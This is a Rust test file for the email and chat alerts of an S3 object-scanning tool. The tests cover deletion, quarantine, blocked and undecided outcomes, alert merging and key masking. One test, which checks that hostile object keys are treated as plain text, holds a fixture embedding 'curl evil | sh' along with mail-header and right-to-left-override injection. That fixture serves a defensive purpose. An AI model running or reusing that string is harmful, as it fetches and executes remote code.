//! The mails about objects.

use s3_warden::action::{Action, Mode, Outcome, Tell};
use s3_warden::alert::{Alert, AlertSettings, Clean, KeyStyle, body, chat, subject};
use s3_warden::object::{Exposure, Format, Why};
use s3_warden::verdict::{Category, Confidence, UndecidedReason, UnreadableReason, Verdict};

use super::{check, check_with_chat};
use crate::finding::{Sample, flagged};

const REASONS: [UndecidedReason; 7] = [
    UndecidedReason::InstructionsInContent,
    UndecidedReason::Contradiction,
    UndecidedReason::NothingFound,
    UndecidedReason::Refused,
    UndecidedReason::Malformed,
    UndecidedReason::Truncated,
    UndecidedReason::Rejected,
];

const WHYS: [Why; 10] = [
    Why::AccessDenied,
    Why::RequesterPays,
    Why::OtherOwner,
    Why::KeyDenied,
    Why::Archived,
    Why::Locked,
    Why::MfaRequired,
    Why::TooBigToCopy,
    Why::NotAFile,
    Why::CopyDiffers,
];

const UNREADABLE: [(&str, UnreadableReason); 7] = [
    ("heic", UnreadableReason::Unsupported(Format::Heic)),
    ("unknown", UnreadableReason::Unsupported(Format::Unknown)),
    ("damaged", UnreadableReason::Damaged),
    ("empty", UnreadableReason::Empty),
    ("too_large", UnreadableReason::TooLarge),
    ("too_many_pixels", UnreadableReason::TooManyPixels),
    ("denied", UnreadableReason::Denied(Why::AccessDenied)),
];

fn alert(sample: &Sample, settings: &AlertSettings) -> Alert {
    Alert::about(&sample.finding(), settings).expect("it is to be told")
}

#[test]
fn flagged_by_every_outcome() {
    for (name, outcome) in [
        ("deleted", Outcome::Deleted),
        ("already_gone", Outcome::AlreadyGone),
        ("superseded", Outcome::Superseded),
        ("held", Outcome::Held),
    ] {
        let sample = Sample {
            outcome,
            ..Sample::default()
        };
        check(&format!("flagged_{name}"), |settings| {
            alert(&sample, settings)
        });
    }
    let quarantined = Sample {
        action: Action::Quarantine,
        outcome: Outcome::Quarantined,
        ..Sample::default()
    };
    check_with_chat("flagged_quarantined", |settings| {
        alert(&quarantined, settings)
    });
    for (name, action) in [
        ("delete", Action::Delete),
        ("quarantine", Action::Quarantine),
    ] {
        let observed = Sample {
            action,
            mode: Mode::Observe,
            outcome: Outcome::Observed,
            ..Sample::default()
        };
        check(&format!("flagged_observed_{name}"), |settings| {
            alert(&observed, settings)
        });
    }
    for (name, outcome) in [
        ("tagged", Outcome::Tagged),
        ("tag_failed", Outcome::TagFailed),
    ] {
        let tagged = Sample {
            verdict: flagged(&[Category::Face], Confidence::Medium),
            action: Action::Tag,
            outcome,
            uploader: None,
            ..Sample::default()
        };
        check(&format!("flagged_{name}"), |settings| {
            alert(&tagged, settings)
        });
    }
}

#[test]
fn whether_everybody_could_read_it() {
    for (name, exposure) in [
        ("public", Exposure::Public),
        ("not_public", Exposure::NotPublic),
        ("unknown_readers", Exposure::Unknown),
    ] {
        let sample = Sample {
            exposure: Some(exposure),
            ..Sample::default()
        };
        check(&format!("flagged_{name}"), |settings| {
            alert(&sample, settings)
        });
    }
}

#[test]
fn secrets_are_to_be_changed_whatever_was_done() {
    let sample = Sample {
        key: "screens/console.png",
        verdict: flagged(&[Category::Credentials], Confidence::High),
        ..Sample::default()
    };
    check("flagged_credentials_deleted", |settings| {
        alert(&sample, settings)
    });
}

#[test]
fn blocked_by_every_why() {
    for why in WHYS {
        let sample = Sample {
            outcome: Outcome::Blocked { why },
            ..Sample::default()
        };
        let name = serde_json::to_value(why).unwrap();
        let name = format!("blocked_{}", name.as_str().unwrap());
        check(&name, |settings| alert(&sample, settings));
    }
}

#[test]
fn a_blocked_move_to_the_quarantine_names_both_rights() {
    let sample = Sample {
        action: Action::Quarantine,
        outcome: Outcome::Blocked {
            why: Why::AccessDenied,
        },
        ..Sample::default()
    };
    check("blocked_quarantine", |settings| alert(&sample, settings));
}

#[test]
fn nobody_is_told_to_delete_what_was_not_judged() {
    let verdicts = [
        Verdict::Undecided {
            reason: UndecidedReason::InstructionsInContent,
        },
        Verdict::Unreadable {
            reason: UnreadableReason::Damaged,
        },
    ];
    for (verdict, why) in verdicts.iter().flat_map(|v| WHYS.map(|why| (v, why))) {
        let sample = Sample {
            verdict: verdict.clone(),
            action: Action::Quarantine,
            outcome: Outcome::Blocked { why },
            ..Sample::default()
        };
        let alert = alert(&sample, &AlertSettings::default());
        assert!(!alert.next_step.contains("Delete "), "{}", alert.next_step);
        let grave = alert.next_step.starts_with("Restrict");
        assert!(!grave, "{}", alert.next_step);
    }
    for why in [Why::AccessDenied, Why::Locked] {
        let sample = Sample {
            verdict: verdicts[0].clone(),
            action: Action::Quarantine,
            outcome: Outcome::Blocked { why },
            ..Sample::default()
        };
        let name = serde_json::to_value(why).unwrap();
        let name = format!("undecided_blocked_{}", name.as_str().unwrap());
        check(&name, |settings| alert(&sample, settings));
    }
}

#[test]
fn undecided_by_every_reason() {
    for reason in REASONS {
        let sample = Sample {
            verdict: Verdict::Undecided { reason },
            action: Action::Tag,
            outcome: Outcome::Tagged,
            ..Sample::default()
        };
        let name = format!("undecided_{}", reason.code());
        check(&name, |settings| alert(&sample, settings));
    }
    let quarantined = Sample {
        verdict: Verdict::Undecided {
            reason: UndecidedReason::InstructionsInContent,
        },
        action: Action::Quarantine,
        outcome: Outcome::Quarantined,
        ..Sample::default()
    };
    check("undecided_quarantined", |settings| {
        alert(&quarantined, settings)
    });
}

#[test]
fn unreadable_by_every_reason() {
    for (name, reason) in UNREADABLE {
        let format = match reason {
            UnreadableReason::Unsupported(format) => Some(format),
            _ => None,
        };
        let sample = Sample {
            verdict: Verdict::Unreadable { reason },
            format,
            action: Action::Keep,
            outcome: Outcome::Kept,
            ..Sample::default()
        };
        check(&format!("unreadable_{name}"), |settings| {
            alert(&sample, settings)
        });
    }
}

#[test]
fn a_clean_file_is_told_only_where_each_is_wanted() {
    let sample = |sequencer| Sample {
        sequencer,
        verdict: Verdict::Clean,
        action: Action::Keep,
        tell: Tell::Remember,
        outcome: Outcome::Kept,
        ..Sample::default()
    };
    let each = |settings: &AlertSettings| AlertSettings {
        clean: Clean::Each,
        ..*settings
    };
    check("clean", |settings| alert(&sample(1), &each(settings)));
    check("merged_clean", |settings| {
        let mut merged = alert(&sample(1), &each(settings));
        merged.merge(alert(&sample(2), &each(settings)));
        merged
    });
    for clean in [Clean::Digest, Clean::Off] {
        let settings = AlertSettings {
            clean,
            ..AlertSettings::default()
        };
        assert!(Alert::about(&sample(1).finding(), &settings).is_none());
    }
}

/// So many of a sample, merged.
fn merged(samples: impl IntoIterator<Item = Sample>, settings: &AlertSettings) -> Alert {
    let alerts = samples.into_iter().zip(1..).map(|(sample, sequencer)| {
        let sample = Sample {
            sequencer,
            ..sample
        };
        alert(&sample, settings)
    });
    alerts
        .reduce(|mut merged, alert| {
            merged.merge(alert);
            merged
        })
        .unwrap()
}

#[test]
fn many_in_one() {
    let ended = |outcome| Sample {
        outcome,
        ..Sample::default()
    };
    let deleted = || (0..12).map(move |_| ended(Outcome::Deleted));
    check_with_chat("merged_deleted", |settings| merged(deleted(), settings));
    check("merged_mixed", |settings| {
        let face = Sample {
            verdict: flagged(&[Category::Face], Confidence::Low),
            action: Action::Tag,
            outcome: Outcome::Tagged,
            ..Sample::default()
        };
        merged(
            deleted().chain([face, ended(Outcome::Superseded)]),
            settings,
        )
    });
    check_with_chat("merged_uploaders", |settings| {
        let other = Sample {
            sequencer: 9,
            uploader: Some("AWS:AIDAOTHER"),
            exposure: Some(Exposure::Public),
            ..Sample::default()
        };
        let mut merged = merged([Sample::default(), ended(Outcome::Deleted)], settings);
        let mut other = alert(&other, settings);
        other.uploader_ip = Some("198.51.100.9".to_owned());
        merged.merge(other);
        merged
    });
    check("merged_blocked_alike", |settings| {
        let blocked = [Why::AccessDenied; 2].map(|why| ended(Outcome::Blocked { why }));
        merged(blocked, settings)
    });
    check_with_chat("merged_blocked", |settings| {
        let whys = [Why::AccessDenied, Why::AccessDenied, Why::Locked];
        let blocked = whys.map(|why| ended(Outcome::Blocked { why }));
        merged(blocked, settings)
    });
    check("merged_held", |settings| {
        merged([ended(Outcome::Held), ended(Outcome::Held)], settings)
    });
    check("merged_undecided", |settings| {
        let undecided = |reason| Sample {
            verdict: Verdict::Undecided { reason },
            action: Action::Tag,
            outcome: Outcome::Tagged,
            ..Sample::default()
        };
        merged(
            [
                undecided(UndecidedReason::Refused),
                undecided(UndecidedReason::Malformed),
            ],
            settings,
        )
    });
}

#[test]
fn a_burst_over_midnight_says_where_the_rest_lies() {
    check("merged_over_midnight", |settings| {
        let mut merged = alert(&Sample::default(), settings);
        for sequencer in 2..=1_204 {
            let mut other = alert(
                &Sample {
                    sequencer,
                    ..Sample::default()
                },
                settings,
            );
            other.happened_at = Some("2026-03-04T00:00:02Z".parse().unwrap());
            merged.merge(other);
        }
        merged
    });
}

#[test]
fn a_hostile_key_is_only_text() {
    let sample = Sample {
        bucket: "ende\u{202e}xyz-with-a-name-that-goes-on-and-on-and-on-and-on-and-on-and-on-and-on",
        key: "a'; curl evil | sh; '\r\nBcc: x@example.com\u{202e}gnp.exe",
        uploader: Some("AWS:\r\nX"),
        ..Sample::default()
    };
    check_with_chat("hostile_key", |settings| alert(&sample, settings));
    let quoted = Sample {
        key: "it's $(here).png",
        ..Sample::default()
    };
    check("quoted_key", |settings| alert(&quoted, settings));
}

#[test]
fn a_masked_key_is_nowhere() {
    let masked = |settings: &AlertSettings| AlertSettings {
        keys: KeyStyle::Masked,
        ..*settings
    };
    let sample = Sample {
        key: "people/jane-doe/passport-jane.jpg",
        ..Sample::default()
    };
    check("masked_key", |settings| alert(&sample, &masked(settings)));
    let alert = alert(&sample, &masked(&AlertSettings::default()));
    let all = format!(
        "{}{}{}",
        body(&alert),
        serde_json::to_string(&alert).unwrap(),
        chat(&alert)
    );
    assert!(!all.contains("jane") && !all.contains("people"), "{all}");
}

#[test]
fn no_key_is_in_a_subject() {
    for outcome in [Outcome::Deleted, Outcome::Held, Outcome::Observed] {
        let sample = Sample {
            key: "jane-doe.png",
            outcome,
            ..Sample::default()
        };
        assert!(!subject(&alert(&sample, &AlertSettings::default())).contains("jane"));
    }
}
